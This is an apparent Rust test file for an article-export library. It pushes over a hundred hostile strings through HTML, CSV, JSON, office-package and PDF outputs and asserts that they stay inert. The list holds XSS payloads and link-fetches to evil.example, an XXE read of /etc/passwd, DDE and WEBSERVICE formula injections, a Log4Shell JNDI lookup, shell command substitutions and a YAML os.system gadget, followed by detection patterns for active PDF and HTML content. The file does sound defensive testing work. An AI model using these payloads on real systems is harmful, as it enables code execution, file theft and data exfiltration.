//! More hostile texts, in every format there is: what is packed is unpacked, and nothing in it acts.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::expect_used,
    reason = "a document that is not what it should be fails the test"
)]

mod common;

use std::io::{Cursor, Read};

use common::{Builder, KIM, bytes, formats};
use stet_core::view::{ArticleView, BlockKind, ConflictView, Tag};

/// What is tried, by what it is tried on.
const HOSTILE: &[&str] = &[
    // Web pages.
    "<script src=//evil.example/x></script>",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<iframe srcdoc='<script>x</script>'>",
    "<object data=x><embed src=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<form action=//evil.example><button>",
    "<a href=\"vbscript:x\" ping=//evil.example>",
    "<template><slot>",
    "</script><script>alert(1)//",
    "<!--[if IE]><script>x</script><![endif]-->",
    "<?php system('id'); ?>",
    "<%= 7*7 %>",
    "`-alert(1)-`",
    "@import url(//evil.example)",
    "expression(alert(1))",
    "&#x3c;script&#x3e;",
    "&NotAnEntity; &amp;amp;",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "%3Cscript%3E",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "blob:https://evil.example/1",
    "about:blank",
    "view-source:https://evil.example",
    "https://evil.example\\@good.example",
    "https://good.example\u{2044}evil.example/",
    "https://[::1]/",
    // XML.
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "<?xml version=\"1.1\"?>",
    "<![CDATA[ x ]]>",
    "<xi:include href=\"x\"/>",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c cmd</w:instrText>",
    "</t></is></c><c><f>1+1</f></c>",
    // Spreadsheets.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "\u{ff1d}1+1",
    "a\",\"=1+1",
    "a\"\n=1+1,\"b",
    "a;=1+1",
    "a\tb\t=1+1",
    "''=1",
    "1e999",
    "00123",
    "2026-02-30",
    "_x0041_ _x000D_",
    "'; DROP TABLE x; --",
    // Word processors.
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "{ INCLUDEPICTURE \"https://evil.example/x\" }",
    "{ HYPERLINK \"javascript:x\" }",
    "{ MACROBUTTON x y }",
    "{\\rtf1 {\\object\\objemb}}",
    "{\\*\\generator x}",
    "\\\\evil.example\\share",
    // Typesetting.
    "#import \"x.typ\": *",
    "#eval(\"1+1\")",
    "#read(\"/etc/passwd\")",
    "#image(\"x.png\")",
    "#link(\"javascript:x\")[x]",
    "#set text(size: 90pt)",
    "#{ while true {} }",
    "$ sum_(k=0)^n k $",
    "*bold* _emph_ `raw` <label> @ref",
    "= Heading\n== Sub\n- list\n+ one\n/ term: x",
    "// comment /* and */",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "\\def\\x{\\x}\\x",
    "%PDF-1.7 endstream endobj",
    ") Tj /JS (app.alert(1)) (",
    ">> /Launch << /F (x)",
    // Programs and templates.
    "${jndi:ldap://evil.example/x}",
    "$(id) `id` ; id | id && id",
    "%n%n%s%s %x {0} {x}",
    "{{constructor.constructor('x')()}}",
    "#{7*7} *{7*7} @{7*7}",
    "!!python/object/apply:os.system [id]",
    "key: value\n- &a [*a, *a]",
    "{\"a\": {\"__proto__\": 1}}",
    "\"],\"x\":[\"",
    "../../../etc/passwd",
    "CON.txt NUL AUX",
    "\u{1b}]0;title\u{7}\u{1b}[2J",
    "\u{9b}31m",
    "From: x\r\nBcc: evil@evil.example\r\n\r\n",
    // Letters.
    "\u{202e}\u{2066}fdp.exe\u{2069}",
    "\u{61c}\u{200f}\u{200e}",
    "\u{e0001}\u{e0061}\u{e007f}",
    "\u{301}\u{301}\u{301}",
    "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
    "\u{fdd0}\u{fffe}\u{10ffff}",
    "\u{fffd}\u{fff9}a\u{fffa}b\u{fffb}",
    "👩🏽\u{200d}❤\u{fe0f}\u{200d}💋\u{200d}👨🏿",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "ﷺ ﷽ 𒐫",
    "مرحبا abc שלום",
    "日本語 한국어 ไทย ខ្មែរ",
    "İıſßŉǰΐẞﬀ",
    "\u{0}\u{1}\u{8}\u{b}\u{c}\u{1f}",
    "\u{85}\u{2028}\u{2029}",
    "\u{ad}\u{34f}\u{115f}\u{3164}\u{ffa0}",
    "\u{200d}\u{200c}\u{2060}\u{feff}",
    "\u{3000}\u{2003}\u{a0} \u{202f}",
];

fn everywhere(text: &str) -> ArticleView {
    let mut b = Builder::new(text);
    b.view.authors = vec![text.into()];
    b.view.publisher = text.into();
    b.view.url = text.into();
    b.block(BlockKind::Headline, &[("H1", text)])
        .block(BlockKind::Paragraph, &[("1", text), ("2", "It fell.")]);
    let tag = b.tag("1", (text, "4f1c09ae77d2b631"), Tag::Disputed, text);
    (tag.correction, tag.speaker) = (format!("{text}!"), text.into());
    b.tag("2", KIM, Tag::AttributedOnly, text).speaker = text.into();
    b.source("1", "a", text, text, text, text).source(
        "2",
        "b",
        "Two",
        "https://two.example/x",
        text,
        text,
    );
    b.sentence("1").publish = true;
    b.sentence("2").conflicts = vec![ConflictView {
        field: "speaker".into(),
        values: vec![text.into(), "x".into()],
    }];
    b.done()
}

/// The files of a package.
fn files(package: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(Cursor::new(package)).unwrap();
    (0..zip.len())
        .map(|n| {
            let mut file = zip.by_index(n).unwrap();
            let mut content = Vec::new();
            file.read_to_end(&mut content).unwrap();
            (
                String::from_utf8_lossy(file.name_raw()).into_owned(),
                content,
            )
        })
        .collect()
}

/// What in a package acts: counted, because what our own template has is the same for any text.
fn active(package: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    for (name, content) in files(package) {
        assert!(
            !name.contains("..") && !name.starts_with('/') && !name.contains("vba"),
            "{name} is no name of a file of ours"
        );
        if name.ends_with(".txt") {
            // The article itself, as plain text.
            continue;
        }
        let Ok(text) = String::from_utf8(content) else {
            continue;
        };
        for tag in text.split('<').skip(1) {
            let inside = tag.split('>').next().unwrap_or_default();
            let element = inside.split([' ', '/', '\n']).next().unwrap_or_default();
            let external = inside.contains("TargetMode=\"External\"")
                && !["Target=\"http://", "Target=\"https://"]
                    .iter()
                    .any(|target| inside.contains(target));
            let field = [
                "w:instrText",
                "w:fldSimple",
                "w:object",
                "f",
                "oleObject",
                "!DOCTYPE",
                "!ENTITY",
            ]
            .contains(&element);
            if external || field || element == "script" {
                found.push(format!("{name}: <{inside}>"));
            }
        }
    }
    found.sort();
    found
}

#[test]
fn there_are_a_hundred() {
    assert!(HOSTILE.len() >= 100, "{}", HOSTILE.len());
}

#[test]
fn packages_are_inert() {
    for format in formats().filter(|format| !format.is_text() && format.name() != "pdf") {
        let plain = active(&bytes(&everywhere("A plain sentence"), format));
        for text in HOSTILE {
            let found = active(&bytes(&everywhere(text), format));
            assert!(
                found.iter().all(|one| plain.contains(one)),
                "{text:?} in {}: {found:?}",
                format.name()
            );
        }
    }
}

#[test]
fn pages_and_tables_are_inert() {
    for text in HOSTILE {
        for format in formats().filter(|format| format.is_text()) {
            let out = String::from_utf8(bytes(&everywhere(text), format)).unwrap();
            let name = format.name();
            if name == "html" {
                let bad = [
                    "<script",
                    "<iframe",
                    "<object",
                    "<embed",
                    "<form",
                    "<base",
                    "<svg onload",
                    "href=\"javascript",
                ];
                let bad = bad.iter().find(|bad| out.to_lowercase().contains(**bad));
                assert!(bad.is_none(), "{text:?}: {bad:?}");
            }
            if name == "csv" {
                for cell in out.trim_start_matches('\u{feff}').split([',', '\n', '\r']) {
                    let cell = cell.trim_matches('"');
                    let acts = cell.len() > 1 && cell.starts_with(['=', '@', '\t']);
                    assert!(
                        !acts || text.contains([',', '\n', '\r']),
                        "{text:?}: {cell}"
                    );
                }
            }
            if format.media_type().contains("json") {
                let value: serde_json::Value = serde_json::from_str(&out).unwrap();
                assert!(value.is_object() || value.is_array(), "{name}: {text:?}");
            }
        }
    }
}

#[test]
fn pdfs_are_inert() {
    // A few of each kind: pages take their time.
    for format in formats().filter(|format| format.name() == "pdf") {
        for text in HOSTILE.iter().step_by(6) {
            let out = bytes(&everywhere(text), format);
            let has = |wanted: &[u8]| out.windows(wanted.len()).any(|there| there == wanted);
            for bad in [
                "/JavaScript",
                "/S /JS",
                "/S/JS",
                "/Launch",
                "/EmbeddedFile",
                "/OpenAction",
            ] {
                assert!(!has(bad.as_bytes()), "{text:?}: {bad}");
            }
            for uri in [
                "/URI (javascript",
                "/URI (file",
                "/URI (data",
                "/URI (vbscript",
            ] {
                assert!(!has(uri.as_bytes()), "{text:?}: {uri}");
            }
        }
    }
}
